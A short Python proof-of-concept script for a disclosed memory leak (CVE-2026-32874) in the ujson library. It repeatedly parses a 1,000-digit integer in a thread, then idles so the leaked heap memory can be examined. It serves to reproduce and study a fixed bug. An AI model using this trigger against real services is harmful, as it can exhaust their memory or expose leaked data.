"""ujson 5.4.0 to 5.11.0 leaks the text of each integer outside [-2**63, 2**64 - 1] that it parses, and one byte more.

CVE-2026-32874, GHSA-wgvc-ghv9-3pmm, https://github.com/ultrajson/ultrajson, fixed in 5.12.0.
Integers of 1,000 digits: pymalloc allocates more than 512 bytes with malloc.
"""

import sys
import threading
import time

import ujson

text = "1" * 1000


def serve() -> None:
    for _ in range(int(sys.argv[1])):
        ujson.loads(text)


# In a thread, as in a server: its arena is far above 2**32, and a Python process contains many numbers below 2**32.
worker = threading.Thread(target=serve)
worker.start()
worker.join()
print("ready", flush=True)
time.sleep(3600)
